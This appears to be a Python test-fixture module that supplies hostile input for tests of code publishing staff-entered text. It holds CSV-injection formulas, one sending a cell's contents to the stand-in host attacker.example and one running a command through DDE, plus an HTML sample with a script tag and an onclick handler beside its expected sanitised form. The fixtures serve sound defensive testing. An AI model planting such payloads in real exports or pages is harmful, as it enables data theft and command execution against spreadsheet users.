"""Staff text a hostile or careless editor (or an imported sheet) could enter, shared by the
tests of every place that publishes it."""

# Formulas a spreadsheet would run from a CSV cell (OWASP "CSV injection").
HOSTILE = {
    "title": '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "short_title": "+1+cmd|' /C calc'!A0",
    "lead_institution": "@SUM(1+1)",
}

# Rich text with a script and an event handler, and what the sanitiser keeps of it.
HTML = (
    '<p onclick="steal()">Open <strong>data</strong> <a href="https://example.org/">law</a></p>'
    "<script>alert(1)</script>"
)
CLEAN_HTML = (
    '<p>Open <strong>data</strong> <a href="https://example.org/" rel="noopener noreferrer">'
    "law</a></p>"
)
